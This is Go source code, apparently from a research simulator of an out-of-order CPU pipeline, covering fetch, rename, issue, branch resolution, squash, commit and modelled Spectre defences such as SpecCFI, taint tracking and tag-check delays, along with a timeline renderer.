//	u marks instructions that passed through tcs=unsafe.
func (r *Recorder) Render(n int) string {
	recs := r.Records()
	if n > 0 && len(recs) > n {
		recs = recs[len(recs)-n:]
	}
	if len(recs) > 64 {
		recs = recs[len(recs)-64:]
	}
	if len(recs) == 0 {
		return "(no records)\n"
	}
	lo, hi := ^uint64(0), uint64(0)
	for _, rec := range recs {
		if rec.Dispatch < lo {
			lo = rec.Dispatch
		}
		for _, t := range []uint64{rec.Complete, rec.Commit, rec.Squash, rec.Issue} {
			if t > hi {
				hi = t
			}
		}
	}
	if hi <= lo {
		hi = lo + 1
	}
	const width = 72
	scale := (hi - lo + width) / width

	var b strings.Builder
	fmt.Fprintf(&b, "pipeline timeline: cycles %d..%d, one column = %d cycle(s)\n", lo, hi, scale)
	fmt.Fprintf(&b, "D dispatch  I issue  C complete  R retire  X squash  (u: tcs=unsafe)\n\n")
	for _, rec := range recs {
		row := make([]byte, width+1)
		for i := range row {
			row[i] = ' '
		}
		put := func(t uint64, ch byte) {
			if t == 0 {
				return
			}
			col := int((t - lo) / scale)
			if col >= len(row) {
				col = len(row) - 1
			}
			row[col] = ch
		}
		put(rec.Dispatch, 'D')
		put(rec.Issue, 'I')
		put(rec.Complete, 'C')
		put(rec.Commit, 'R')
		put(rec.Squash, 'X')
		flag := " "
		if rec.Unsafe {
			flag = "u"
		}
		fmt.Fprintf(&b, "%5d %s %-28.28s |%s|\n", rec.Seq, flag, rec.Text, row)
	}
	return b.String()
}

// Stats summarises the recorded window.
func (r *Recorder) Stats() (committed, squashed int, avgDispatchToCommit float64) {
	var sum, n uint64
	for _, rec := range r.Records() {
		switch {
		case rec.Commit != 0:
			committed++
			sum += rec.Commit - rec.Dispatch
			n++
		case rec.Squash != 0:
			squashed++
		}
	}
	if n > 0 {
		avgDispatchToCommit = float64(sum) / float64(n)
	}
	return committed, squashed, avgDispatchToCommit
}

// SortedBySeq returns records sorted by sequence number (Render keeps
// dispatch order, which matches seq order per core anyway; this helper is
// for merged multi-core views).
func SortedBySeq(recs []*InstRecord) []*InstRecord {
	out := append([]*InstRecord(nil), recs...)
	sort.Slice(out, func(i, j int) bool { return out[i].Seq < out[j].Seq })
	return out
}
