package cpu

import (
	"specasan/internal/core"
	"specasan/internal/isa"
	"specasan/internal/obs"
)

// Tick advances the core by one clock cycle. Stages run back-to-front so a
// result produced this cycle is consumed no earlier than the next.
func (c *Core) Tick() {
	if c.Halted || c.Faulted {
		return
	}
	c.cycle++
	c.commit()
	if c.Halted || c.Faulted {
		return
	}
	c.completeExecution()
	c.advanceLSQ()
	c.wakeup()
	c.issue()
	c.dispatch()
	c.fetch()
}

// wakeup drains due events from the wake heap and fires the producers'
// consumer lists, making dependents issue-eligible this cycle — exactly when
// the old per-cycle window scan would first have seen the result available.
// Stale events (a squash rolled nextSeq back and the seq was reused) are
// filtered by the seq/state/doneAt checks: a reused entry either scheduled
// its own event for its true doneAt or is not done yet.
func (c *Core) wakeup() {
	for len(c.wakeQ) > 0 && c.wakeQ[0].at <= c.cycle {
		ev := wakePop(&c.wakeQ)
		e := &c.rob[ev.seq&c.robMask]
		// Deliberately no e.valid check: a producer that committed this
		// cycle (commit runs before wakeup) still owes its consumers their
		// wake; they will read the committed register file.
		if e.seq != ev.seq || e.state != stDone || e.doneAt > c.cycle {
			continue
		}
		c.fireConsumers(e)
	}
	// The flat single-cycle batch (see setDone). Within a cycle, firing
	// order across distinct producers is immaterial: wakes only decrement
	// pendingSrcs and insert into the (sorted-before-issue) ready queue,
	// both order-independent, so draining this after the heap is exact.
	if len(c.wakeNext) > 0 && c.wakeNextAt <= c.cycle {
		for _, seq := range c.wakeNext {
			e := &c.rob[seq&c.robMask]
			if e.seq != seq || e.state != stDone || e.doneAt > c.cycle {
				continue
			}
			c.fireConsumers(e)
		}
		c.wakeNext = c.wakeNext[:0]
	}
}

// fireConsumers wakes every registered dependent of e: each loses one
// pending source and enters the ready queue when none remain.
func (c *Core) fireConsumers(e *robEntry) {
	for _, cs := range e.consumers {
		d := c.entry(cs)
		if d == nil || d.pendingSrcs == 0 {
			continue
		}
		d.pendingSrcs--
		if d.pendingSrcs == 0 && d.state == stDispatched {
			c.pushReady(d)
		}
	}
	e.consumers = e.consumers[:0]
}

// pushReady inserts e into the ready queue (kept ascending; marked dirty on
// out-of-order insert and re-sorted once per cycle before issue).
func (c *Core) pushReady(e *robEntry) {
	if e.inReadyQ {
		return
	}
	e.inReadyQ = true
	if n := len(c.readyQ); n > 0 && c.readyQ[n-1] > e.seq {
		c.readyDirty = true
	}
	c.readyQ = append(c.readyQ, e.seq)
}

// setDone marks e's result available at cycle `at`, waking consumers
// immediately when the result is already visible or scheduling a wake event
// otherwise.
func (c *Core) setDone(e *robEntry, at uint64) {
	e.state = stDone
	e.doneAt = at
	if at <= c.cycle {
		c.fireConsumers(e)
	} else {
		// Always scheduled (even with no consumers yet): a dependent may
		// dispatch between now and doneAt and register on the list.
		// Results sharing one due cycle (the 1-cycle ALU latency dominates)
		// batch into a flat list; mixed due cycles take the heap.
		if len(c.wakeNext) == 0 {
			c.wakeNextAt = at
			c.wakeNext = append(c.wakeNext, e.seq)
		} else if c.wakeNextAt == at {
			c.wakeNext = append(c.wakeNext, e.seq)
		} else {
			wakePush(&c.wakeQ, wakeEvent{at: at, seq: e.seq})
		}
	}
}

// ---------------------------------------------------------------- fetch --

// fqLen is the number of fetched-but-not-dispatched instructions.
func (c *Core) fqLen() int { return c.fqCount }

// fqNext returns the fetch-ring slot the next fqCount++ will publish.
// Capacity covers the worst case (the fullness check admits a group at
// 2*FetchWidth-1 entries, which can grow to 3*FetchWidth-1), so the slot
// is never live: fetch builds the fetched instruction directly in place
// and publishes it by bumping fqCount.
func (c *Core) fqNext() *fetchedInst {
	return &c.fetchQ[(c.fqHead+c.fqCount)&c.fqMask]
}

func (c *Core) fetch() {
	if c.fqCount >= c.cfg.FetchWidth*2 {
		return
	}
	if c.cycle < c.fetchStallTo {
		return
	}
	if c.fetchBlockedBy != 0 {
		if c.entry(c.fetchBlockedBy) != nil {
			bump(&c.nCFIStall, c.Stats, "fetch_cfi_stall_cycles")
			return // still waiting for the branch to resolve
		}
		c.fetchBlockedBy = 0
	}
	for n := 0; n < c.cfg.FetchWidth; n++ {
		in := c.fe.InstAt(c.fetchPC)
		if in == nil {
			return // off the edge of code; dispatch will fault if reached
		}
		// One I-cache access per line per fetch group.
		if line := c.fetchPC &^ uint64(c.cfg.LineBytes-1); line != c.lastFetchLine {
			c.enterShared()
			ready := c.hier.FetchInst(c.ID, c.fetchPC, c.cycle)
			if ready > c.cycle+c.cfg.L1ILatency {
				c.fetchStallTo = ready // i-cache miss
				return
			}
			c.lastFetchLine = line
		}
		fi := c.fqNext()
		*fi = fetchedInst{pc: c.fetchPC, inst: in}
		next := c.fetchPC + isa.InstBytes

		switch in.Op {
		case isa.B:
			fi.predTaken, fi.predTarget = true, uint64(in.Imm)
		case isa.BL:
			fi.predTaken, fi.predTarget = true, uint64(in.Imm)
			c.pred.PushReturn(next)
			if c.cfiOn {
				c.shadowStack = append(c.shadowStack, next)
			}
		case isa.BCC, isa.CBZ, isa.CBNZ:
			taken, snap := c.pred.PredictCond(fi.pc)
			fi.ghrSnap = snap
			if taken {
				fi.predTaken, fi.predTarget = true, uint64(in.Imm)
			}
		case isa.BR, isa.BLR:
			t, ok := c.pred.PredictIndirect(fi.pc)
			if in.Op == isa.BLR {
				c.pred.PushReturn(next)
				if c.cfiOn {
					c.shadowStack = append(c.shadowStack, next)
				}
			}
			if !ok {
				// No prediction: stall fetch until the branch resolves.
				fi.stallOnResolve = true
				c.fqCount++
				c.obsRecord(0, fi.pc, obs.EvFetch, 0)
				c.fetchBlockedBy = ^uint64(0) // rebound to the seq at dispatch
				return
			}
			fi.predTaken, fi.predTarget = true, t
			if c.cfiOn && !c.targetIsBTI(t) {
				// SpecCFI: speculation to a non-BTI target is not allowed;
				// stall until the branch resolves.
				fi.predTaken = false
				fi.stallOnResolve = true
				c.fqCount++
				c.obsRecord(0, fi.pc, obs.EvFetch, 0)
				c.fetchBlockedBy = ^uint64(0)
				c.Stats.Inc("cfi_blocked_indirect")
				return
			}
		case isa.RET:
			t, ok := c.pred.PredictReturn()
			fi.rsbPred = ok
			if !ok {
				fi.stallOnResolve = true
				c.fqCount++
				c.obsRecord(0, fi.pc, obs.EvFetch, 0)
				c.fetchBlockedBy = ^uint64(0)
				return
			}
			fi.predTaken, fi.predTarget = true, t
			if c.cfiOn {
				// SpecCFI: the RSB prediction must agree with the
				// speculative shadow stack; a poisoned RSB disagrees and
				// speculation is refused until the return resolves.
				if !c.shadowTopMatches(t) {
					fi.predTaken = false
					fi.stallOnResolve = true
					c.fqCount++
					c.obsRecord(0, fi.pc, obs.EvFetch, 0)
					c.fetchBlockedBy = ^uint64(0)
					c.Stats.Inc("cfi_blocked_return")
					return
				}
				c.shadowStack = c.shadowStack[:len(c.shadowStack)-1]
			}
		}

		c.fqCount++
		c.obsRecord(0, fi.pc, obs.EvFetch, 0)
		if in.IsBranch() {
			// The BHB is updated speculatively at fetch with the predicted
			// path (as on real front ends) — which is exactly what makes
			// branch-history injection trainable.
			nxt := next
			if fi.predTaken {
				nxt = fi.predTarget
			}
			c.pred.NoteBranch(fi.pc, nxt)
		}
		if fi.predTaken {
			c.fetchPC = fi.predTarget
			if c.cfiOn && (in.Op == isa.BR || in.Op == isa.BLR) {
				// SpecCFI validates that the predicted target is a BTI
				// landing pad before redirecting: the check reads and
				// partially decodes the target's instruction bytes — a
				// short front-end bubble per speculated indirect branch.
				// (Returns are validated against the shadow stack
				// register-side and need no bubble when they agree.)
				c.fetchStallTo = c.cycle + 3
				c.Stats.Inc("cfi_checks")
			}
			return // one taken branch per fetch group
		}
		c.fetchPC = next
	}
}

func (c *Core) targetIsBTI(pc uint64) bool {
	in := c.fe.InstAt(pc)
	return in != nil && in.Op == isa.BTI
}

func (c *Core) shadowTopMatches(t uint64) bool {
	n := len(c.shadowStack)
	return n > 0 && c.shadowStack[n-1] == t
}

// ------------------------------------------------------------- dispatch --

func (c *Core) dispatch() {
	for n := 0; n < c.cfg.IssueWidth && c.fqLen() > 0; n++ {
		if c.robCount() >= c.robCap || c.iqCount >= c.cfg.IQEntries {
			bump(&c.nDispatchStall, c.Stats, "dispatch_stall_cycles")
			return
		}
		fi := &c.fetchQ[c.fqHead]
		in := fi.inst
		if in.IsLoad() && c.lqCount >= c.cfg.LQEntries {
			return
		}
		if in.IsStore() && c.sqCount >= c.cfg.SQEntries {
			return
		}
		c.fqHead = (c.fqHead + 1) & c.fqMask
		c.fqCount--

		seq := c.nextSeq
		c.nextSeq++
		e := &c.rob[seq&c.robMask]
		e.resetFor(seq, fi)

		// Rename sources through the map table and register this entry on
		// the wakeup list of every producer whose result is still pending.
		var srcRegs [4]isa.Reg
		for _, r := range in.Srcs(srcRegs[:0]) {
			prod := uint64(0)
			if r != isa.XZR {
				prod = c.rat[r]
			}
			e.srcs = append(e.srcs, source{reg: r, producer: prod})
			if p := c.entry(prod); p != nil && !(p.state == stDone && p.doneAt <= c.cycle) {
				p.consumers = append(p.consumers, seq)
				e.pendingSrcs++
			}
		}
		if in.ReadsFlags() {
			e.flagsFrom = c.ratFlags
			if p := c.entry(e.flagsFrom); p != nil && !(p.state == stDone && p.doneAt <= c.cycle) {
				p.consumers = append(p.consumers, seq)
				e.pendingSrcs++
			}
		}
		// Claim the map table for this entry's destination, remembering the
		// displaced producer for squash restore. (DstReg never yields XZR —
		// writes there are discarded, never renamed.)
		if d, ok := in.DstReg(); ok {
			e.prevProd[0] = c.rat[d]
			c.rat[d] = seq
		}
		if in.WritesFlags() {
			e.tookFlags = true
			e.prevFlags = c.ratFlags
			c.ratFlags = seq
		}
		// Speculation context: the youngest older branch still unresolved at
		// dispatch time is the back of the unresolved-branch queue.
		if n := len(c.branchQ); n > 0 {
			e.lastBranchSeq = c.branchQ[n-1]
		}

		if c.TraceFn != nil {
			c.trace("cycle %d: dispatch seq=%d pc=%#x %v", c.cycle, seq, fi.pc, in)
		}
		if c.Rec != nil {
			c.Rec.onDispatch(c, e)
		}
		c.obsRecord(seq, fi.pc, obs.EvDispatch, 0)
		c.iqCount++
		if e.isBranch {
			c.branchQ = append(c.branchQ, seq)
		}
		if e.isLoad {
			c.lqCount++
			c.loadQ = append(c.loadQ, seq)
		}
		if e.isStore {
			c.sqCount++
			c.storeQ = append(c.storeQ, seq)
			c.unresolvedStores++
			if in.Op == isa.STG || in.Op == isa.ST2G {
				c.tagWritesInFlight++
			}
		}
		if in.Op == isa.SWPAL || in.Op == isa.DSB {
			c.barrierQ = append(c.barrierQ, seq)
		}
		if e.isLoad || e.isStore {
			c.tsh.Allocate(seq)
		}
		if e.pendingSrcs == 0 {
			c.pushReady(e)
		}
		if fi.stallOnResolve {
			c.fetchBlockedBy = seq // fetch resumes when this branch resolves
		}
		bump(&c.nDispatched, c.Stats, "dispatched")
	}
}

// youngestProducerScan is the O(window) reference rename the map table
// replaced; the watchdog cross-checks rat against it.
func (c *Core) youngestProducerScan(r isa.Reg, seq uint64) uint64 {
	if r == isa.XZR {
		return 0
	}
	var dsts [2]isa.Reg
	for s := seq - 1; s >= c.headSeq && s > 0; s-- {
		o := &c.rob[s&c.robMask]
		if o.valid && o.seq == s {
			for _, d := range o.inst.Dsts(dsts[:0]) {
				if d == r {
					return o.seq
				}
			}
		}
		if s == c.headSeq {
			break
		}
	}
	return 0
}

func (c *Core) youngestFlagsProducerScan(seq uint64) uint64 {
	for s := seq - 1; s >= c.headSeq && s > 0; s-- {
		o := &c.rob[s&c.robMask]
		if o.valid && o.seq == s && o.inst.WritesFlags() {
			return o.seq
		}
		if s == c.headSeq {
			break
		}
	}
	return 0
}

// --------------------------------------------------------------- issue --

// readSource returns (value, ready) for a renamed source.
func (c *Core) readSource(s source) (uint64, bool) {
	if s.reg == isa.XZR {
		return 0, true
	}
	if s.producer == 0 {
		return c.cRegs[s.reg], true
	}
	p := c.entry(s.producer)
	if p == nil {
		// Producer committed after rename: value is in the register file.
		return c.cRegs[s.reg], true
	}
	if p.state == stDone && p.doneAt <= c.cycle {
		return p.result, true
	}
	return 0, false
}

func (c *Core) readFlags(e *robEntry) (isa.Flags, bool) {
	if e.flagsFrom == 0 {
		return c.cFlags, true
	}
	p := c.entry(e.flagsFrom)
	if p == nil {
		return c.cFlags, true
	}
	if p.state == stDone && p.doneAt <= c.cycle {
		return p.outFlags, true
	}
	return isa.Flags{}, false
}

func (c *Core) operandsReady(e *robEntry) bool {
	for _, s := range e.srcs {
		if _, ok := c.readSource(s); !ok {
			return false
		}
	}
	if e.inst.ReadsFlags() {
		if _, ok := c.readFlags(e); !ok {
			return false
		}
	}
	return true
}

func (c *Core) issue() {
	// readyQ holds exactly the stDispatched entries whose operands are all
	// available (maintained by dispatch/fireConsumers/releaseEntry), kept in
	// ascending seq order so issue priority matches the old oldest-first ROB
	// scan. Out-of-order wakeup inserts mark it dirty; one nearly-sorted
	// insertion sort per cycle restores order.
	if c.readyDirty {
		insertionSortU64(c.readyQ)
		c.readyDirty = false
	}
	// One pass with a write index: kept entries compact toward the front,
	// issued and stale ones drop out, and the unscanned tail is moved down
	// at the end. This replaces the old splice-per-removal (an O(n) copy
	// for every issued instruction). A squash inside startExecution only
	// seqRemoves younger entries, which sort after index i, so both
	// cursors stay valid.
	issued := 0
	i, w := 0, 0
	for ; i < len(c.readyQ) && issued < c.cfg.IssueWidth; i++ {
		seq := c.readyQ[i]
		e := c.entry(seq)
		if e == nil || e.state != stDispatched {
			// Stale (issued or squashed out from under us): drop.
			if e != nil {
				e.inReadyQ = false
			}
			continue
		}
		if blocked, key := c.policyBlocksIssue(e); blocked {
			e.policyDelayed = true
			c.Stats.Inc(key)
			c.readyQ[w] = seq
			w++
			continue
		}
		if !c.unitAvailable(e) {
			c.readyQ[w] = seq
			w++
			continue
		}
		if c.Rec != nil {
			c.Rec.onIssue(c, e)
		}
		e.issuedAt = c.cycle
		c.obsRecord(e.seq, e.pc, obs.EvIssue, 0)
		c.startExecution(e)
		issued++
		if e.state == stDispatched {
			// Memory op could not proceed this cycle (port/LFB); retry.
			c.readyQ[w] = seq
			w++
			continue
		}
		e.inReadyQ = false
	}
	if w != i {
		n := copy(c.readyQ[w:], c.readyQ[i:])
		c.readyQ = c.readyQ[:w+n]
	}
}

// unitAvailable checks (without booking) that a port exists this cycle.
func (c *Core) unitAvailable(e *robEntry) bool {
	switch e.inst.Classify() {
	case isa.ClassMulDiv:
		if e.inst.Op == isa.MUL {
			return c.minOf(c.mulFree) <= c.cycle
		}
		return c.divFree <= c.cycle
	case isa.ClassBranch, isa.ClassIndirect:
		return c.brFree <= c.cycle
	case isa.ClassALU, isa.ClassNop, isa.ClassSystem:
		return c.minOf(c.aluFree) <= c.cycle
	default: // memory classes use cache ports, modelled in the hierarchy
		return true
	}
}

func (c *Core) minOf(v []uint64) uint64 {
	m := v[0]
	for _, x := range v[1:] {
		if x < m {
			m = x
		}
	}
	return m
}

func (c *Core) bookUnit(v []uint64, until uint64) {
	best := 0
	for i := 1; i < len(v); i++ {
		if v[i] < v[best] {
			best = i
		}
	}
	v[best] = until
}

// startExecution computes results functionally and books timing.
func (c *Core) startExecution(e *robEntry) {
	c.iqCount--
	c.obsRecord(e.seq, e.pc, obs.EvExec, 0)
	in := e.inst
	spec := c.speculative(e)
	trans := spec || c.transient(e)

	// STT taint and oracle secret taint flow into every executed value.
	if c.taintOn {
		e.taintRoot = c.entryTainted(e)
	}
	if c.oracle.HasSecrets() && c.secretSources(e) {
		e.secret = true
		if trans {
			c.recordContention(e)
		}
	}

	switch in.Classify() {
	case isa.ClassNop:
		c.setDone(e, c.cycle+1)

	case isa.ClassALU:
		rn, _ := c.readSource2(e, in.Rn)
		rm := uint64(0)
		if in.HasImm {
			rm = uint64(in.Imm)
		} else {
			rm, _ = c.readSource2(e, in.Rm)
		}
		oldRd, _ := c.readSource2(e, in.Rd)
		fl, _ := c.readFlags(e)
		res := isa.EvalALU(in, isa.ALUInputs{Rn: rn, Rm: rm, OldRd: oldRd, Flags: fl, TagSeed: c.tagSeed})
		e.result, e.hasResult = res.Value, in.Op != isa.CMP
		e.outFlags, e.writesFlags = res.Flags, res.WritesFlags
		c.setDone(e, c.cycle+1)
		c.bookUnit(c.aluFree, c.cycle+1)

	case isa.ClassMulDiv:
		rn, _ := c.readSource2(e, in.Rn)
		rm, _ := c.readSource2(e, in.Rm)
		res := isa.EvalALU(in, isa.ALUInputs{Rn: rn, Rm: rm})
		e.result, e.hasResult = res.Value, true
		if in.Op == isa.MUL {
			c.bookUnit(c.mulFree, c.cycle+1) // pipelined
			c.setDone(e, c.cycle+uint64(c.cfg.MulLat))
		} else {
			// Early-out divider: latency depends on operand magnitude —
			// the SpectreRewind contention surface.
			lat := c.divLatency(rn)
			c.divFree = c.cycle + lat // not pipelined
			if e.secret && trans {
				c.recordEvent(e, core.ChanDivider)
			}
			c.setDone(e, c.cycle+lat)
		}

	case isa.ClassBranch, isa.ClassIndirect:
		rn, _ := c.readSource2(e, in.Rn)
		fl, _ := c.readFlags(e)
		out := isa.EvalBranch(in, e.pc, rn, fl)
		if out.WritesLink {
			e.result, e.hasResult = out.Link, true
		}
		e.brTaken = out.Taken
		e.actualNext = out.Target
		if !out.Taken {
			e.actualNext = e.pc + isa.InstBytes
		}
		e.state = stExecuting
		e.doneAt = c.cycle + uint64(c.cfg.BranchLat)
		if c.ChaosBranchDelay != nil {
			e.doneAt += c.ChaosBranchDelay(e.pc)
		}
		c.brFree = c.cycle + 1
		if e.secret && trans {
			// A branch consuming secret data perturbs fetch/execute timing.
			c.recordEvent(e, core.ChanPort)
		}

	case isa.ClassLoad, isa.ClassStore, isa.ClassAtomic, isa.ClassTagOp:
		c.startMemOp(e)

	case isa.ClassSystem:
		c.startSystem(e)
	}
	if e.state == stDispatched {
		// Memory op could not proceed yet; return it to the queue's view.
		c.iqCount++
	}
}

// readSource2 reads the current value of arch register r as renamed for e.
func (c *Core) readSource2(e *robEntry, r isa.Reg) (uint64, bool) {
	for _, s := range e.srcs {
		if s.reg == r {
			return c.readSource(s)
		}
	}
	if r == isa.XZR {
		return 0, true
	}
	return c.cRegs[r], true
}

// divLatency models an early-terminating divider.
func (c *Core) divLatency(dividend uint64) uint64 {
	lat := uint64(4)
	for v := dividend; v != 0; v >>= 8 {
		lat += 1
	}
	if lat > uint64(c.cfg.DivLat) {
		lat = uint64(c.cfg.DivLat)
	}
	return lat
}

func (c *Core) startSystem(e *robEntry) {
	in := e.inst
	switch in.Op {
	case isa.MRS:
		e.result, e.hasResult = c.cycle, true
		c.setDone(e, c.cycle+1)
	case isa.DSB:
		// Full barrier: completes only when it is the oldest instruction.
		if e.seq == c.headSeq {
			c.setDone(e, c.cycle+1)
		} else {
			e.state = stDispatched
		}
	case isa.DC:
		// Address computed now; the flush itself happens at commit.
		rn, _ := c.readSource2(e, in.Rn)
		e.addr = rn
		e.addrReady = true
		c.setDone(e, c.cycle+1)
	case isa.SVC, isa.HLT:
		// Effects applied at commit; mark done so commit can reach them.
		c.setDone(e, c.cycle+1)
	default:
		c.setDone(e, c.cycle+1)
	}
	if e.state == stDispatched {
		// keep IQ slot accounting consistent with startExecution's caller
		return
	}
	c.bookUnit(c.aluFree, c.cycle+1)
}

// ------------------------------------------------- execution completion --

func (c *Core) completeExecution() {
	// Resolve branches oldest-first so squashes do not race. branchQ holds
	// exactly the unresolved in-flight branches ascending; a correct
	// resolution removes index i (the next branch slides into it), a
	// mispredict squashes the rest of the queue.
	for i := 0; i < len(c.branchQ); {
		e := c.entry(c.branchQ[i])
		if e == nil {
			c.branchQ = append(c.branchQ[:i], c.branchQ[i+1:]...)
			continue
		}
		if e.state == stExecuting && e.doneAt <= c.cycle {
			if mispredicted := c.resolveBranch(e); mispredicted {
				break // squash flushed everything younger
			}
			continue // e left branchQ; same index is the next branch
		}
		i++
	}
}

func (c *Core) resolveBranch(e *robEntry) (mispredicted bool) {
	e.brResolved = true
	e.state = stDone
	c.branchQ = seqRemove(c.branchQ, e.seq)
	in := e.inst
	taken := e.brTaken
	correct := e.predTaken == taken && (!taken || e.predTarget == e.actualNext)
	if c.TraceFn != nil {
		c.trace("cycle %d: resolve seq=%d pc=%#x %v -> %#x (pred taken=%v tgt=%#x, %s)",
			c.cycle, e.seq, e.pc, in, e.actualNext, e.predTaken, e.predTarget,
			map[bool]string{true: "correct", false: "MISPREDICT"}[correct])
	}

	// Train the predictors.
	switch in.Op {
	case isa.BCC, isa.CBZ, isa.CBNZ:
		c.pred.ResolveCond(e.pc, e.ghrSnap, e.predTaken, taken)
	case isa.BR, isa.BLR:
		c.pred.UpdateIndirect(e.pc, e.actualNext, e.predTarget, e.predTaken)
	case isa.RET:
		c.pred.NoteReturnResolved(e.predTarget, e.rsbPred, e.actualNext)
	}

	if c.fetchBlockedBy == e.seq {
		c.fetchBlockedBy = 0
		if correct && !e.predTaken {
			// fetch was stalled waiting for this branch; restart after it
			c.fetchPC = e.actualNext
			c.fetchStallTo = c.cycle + 1
		}
	}
	if correct {
		bump(&c.nBrCorrect, c.Stats, "branches_correct")
		// The link-register result becomes visible now (doneAt <= cycle);
		// wake dependents exactly when the old polling would have seen it.
		c.fireConsumers(e)
		return false
	}
	bump(&c.nBrMispred, c.Stats, "branches_mispredicted")
	c.Stats.Inc(mispredKey(in.Op))
	// Every registered consumer is younger and about to be squashed; drop
	// them so the seqs cannot alias to re-dispatched instructions.
	e.consumers = e.consumers[:0]
	c.squashAfter(e.seq, e.actualNext)
	return true
}

// mispredKey returns the per-op mispredict counter name without building the
// string in the hot path.
func mispredKey(op isa.Op) string {
	switch op {
	case isa.B:
		return "mispred_B"
	case isa.BL:
		return "mispred_BL"
	case isa.BCC:
		return "mispred_B." // matches isa.BCC.String()
	case isa.CBZ:
		return "mispred_CBZ"
	case isa.CBNZ:
		return "mispred_CBNZ"
	case isa.BR:
		return "mispred_BR"
	case isa.BLR:
		return "mispred_BLR"
	case isa.RET:
		return "mispred_RET"
	}
	return "mispred_" + op.String()
}

// restoreRAT unwinds the rename map table for a squash keeping boundary as
// the youngest surviving instruction. It runs before the entries are
// released (their prevProd chains are still intact), youngest-first so
// displacement chains unwind in reverse claim order: a restored value that
// is itself a squashed producer is older than the current entry and gets
// unwound when the loop reaches it.
func (c *Core) restoreRAT(boundary uint64) {
	for s := c.nextSeq - 1; s > boundary; s-- {
		e := &c.rob[s&c.robMask]
		if !e.valid || e.seq != s {
			continue
		}
		if d, ok := e.inst.DstReg(); ok && c.rat[d] == s {
			v := e.prevProd[0]
			if v != 0 && v <= boundary && c.entry(v) == nil {
				v = 0 // displaced producer committed since dispatch
			}
			c.rat[d] = v
		}
		if e.tookFlags && c.ratFlags == s {
			v := e.prevFlags
			if v != 0 && v <= boundary && c.entry(v) == nil {
				v = 0
			}
			c.ratFlags = v
		}
	}
}

// squashAfter flushes every instruction younger than seq and redirects
// fetch to target.
func (c *Core) squashAfter(seq uint64, target uint64) {
	c.restoreRAT(seq)
	var depth uint64
	for s := seq + 1; s < c.nextSeq; s++ {
		e := &c.rob[s&c.robMask]
		if !e.valid {
			continue
		}
		depth++
		c.releaseEntry(e, true)
	}
	if c.Met != nil {
		c.Met.SquashDepth.Observe(depth)
	}
	c.nextSeq = seq + 1
	if c.incompleteFrom > c.nextSeq {
		c.incompleteFrom = c.nextSeq
	}
	c.fqHead, c.fqCount = 0, 0
	c.fetchPC = target
	c.fetchStallTo = c.cycle + 2 // redirect penalty
	c.fetchBlockedBy = 0
	if c.cfiOn {
		c.shadowStack = c.shadowStack[:0]
	}
	bump(&c.nSquashes, c.Stats, "squashes")
	if c.TraceFn != nil {
		c.trace("cycle %d: squash younger than seq=%d, refetch %#x", c.cycle, seq, target)
	}
}

// releaseEntry tears down per-entry resources: queue membership, rename-map
// claims (commit path; squash unwinding happens in restoreRAT first), and —
// on the squash path — this entry's registrations on surviving producers'
// consumer lists, so a reused seq can never alias a stale wakeup.
func (c *Core) releaseEntry(e *robEntry, squashed bool) {
	if e.state == stDispatched {
		c.iqCount--
	}
	if e.unsafeSince != 0 {
		// The SpecASan hold ends here: on the Spectre path the misprediction
		// resolves to a squash and the held access never replays, so this —
		// not replayUnsafe — is where most tag-check delays close.
		d := c.cycle - e.unsafeSince
		if c.Met != nil {
			c.Met.TagDelay.Observe(d)
		}
		c.obsRecord(e.seq, e.pc, obs.EvTagDelayEnd, d)
		e.unsafeSince = 0
	}
	if e.inReadyQ {
		e.inReadyQ = false
		c.readyQ = seqRemove(c.readyQ, e.seq)
	}
	if e.inRiskQ {
		e.inRiskQ = false
		c.riskQ = seqRemove(c.riskQ, e.seq)
		c.obsRecord(e.seq, e.pc, obs.EvRiskClear, 0)
	}
	if e.isLoad {
		c.lqCount--
		c.loadQ = seqRemove(c.loadQ, e.seq)
	}
	if e.isStore {
		c.sqCount--
		c.storeQ = seqRemove(c.storeQ, e.seq)
		if !e.addrReady {
			c.unresolvedStores--
		}
		if e.inst.Op == isa.STG || e.inst.Op == isa.ST2G {
			c.tagWritesInFlight--
		}
	}
	if e.inst.Op == isa.SWPAL || e.inst.Op == isa.DSB {
		c.barrierQ = seqRemove(c.barrierQ, e.seq)
	}
	if e.isLoad || e.isStore {
		c.tsh.Release(e.seq)
	}
	if squashed {
		if e.isBranch && !e.brResolved {
			c.branchQ = seqRemove(c.branchQ, e.seq)
		}
		// Unregister from surviving producers (released producers are older
		// and already invalid here; entry() returns nil for them).
		for i := range e.srcs {
			if p := c.entry(e.srcs[i].producer); p != nil && len(p.consumers) > 0 {
				p.consumers = seqRemoveAll(p.consumers, e.seq)
			}
		}
		if e.flagsFrom != 0 {
			if p := c.entry(e.flagsFrom); p != nil && len(p.consumers) > 0 {
				p.consumers = seqRemoveAll(p.consumers, e.seq)
			}
		}
		e.consumers = e.consumers[:0]
		if c.Rec != nil {
			c.Rec.onSquash(c, e)
		}
		c.obsRecord(e.seq, e.pc, obs.EvSquash, 0)
		if c.ghostOn && e.isLoad && e.memIssued && e.addrReady {
			c.enterShared()
			c.hier.DropGhost(c.ID, e.addr)
		}
		c.promoteCandidates(e.seq)
		bump(&c.nSquashedInsts, c.Stats, "squashed_insts")
	} else {
		// Commit: this entry's map-table claims revert to the committed
		// register file.
		if d, ok := e.inst.DstReg(); ok && c.rat[d] == e.seq {
			c.rat[d] = 0
		}
		if e.tookFlags && c.ratFlags == e.seq {
			c.ratFlags = 0
		}
	}
	e.valid = false
}

// --------------------------------------------------------------- commit --

func (c *Core) commit() {
	if c.wedged {
		return // injected commit-stage freeze (watchdog tests)
	}
	for n := 0; n < c.cfg.CommitWidth; n++ {
		if c.robCount() == 0 {
			return
		}
		e := &c.rob[c.headSeq&c.robMask]
		if !e.valid {
			c.headSeq++
			continue
		}
		if e.state != stDone || e.doneAt > c.cycle {
			// SpecASan: an unsafe access that reached the ROB head is no
			// longer speculative — replay it (or it faults).
			if e.state == stWaitUnsafe && !c.speculative(e) {
				c.replayUnsafe(e)
			}
			return
		}
		if e.fault {
			c.raiseFault(e)
			return
		}
		if c.Rec != nil {
			c.Rec.onComplete(c, e)
			c.Rec.onCommit(c, e)
		}
		// Every committed entry passed through issue, so issuedAt is set.
		if c.Met != nil {
			c.Met.IssueToCommit.Observe(c.cycle - e.issuedAt)
		}
		c.obsRecord(e.seq, e.pc, obs.EvCommit, c.cycle-e.issuedAt)
		c.commitEntry(e)
		c.dropCandidates(e.seq)
		c.releaseEntry(e, false)
		c.headSeq++
		c.lastCommitCycle = c.cycle
		bump(&c.nCommits, c.Stats, "commits")
		if e.policyDelayed {
			bump(&c.nRestricted, c.Stats, "restricted_commits")
		}
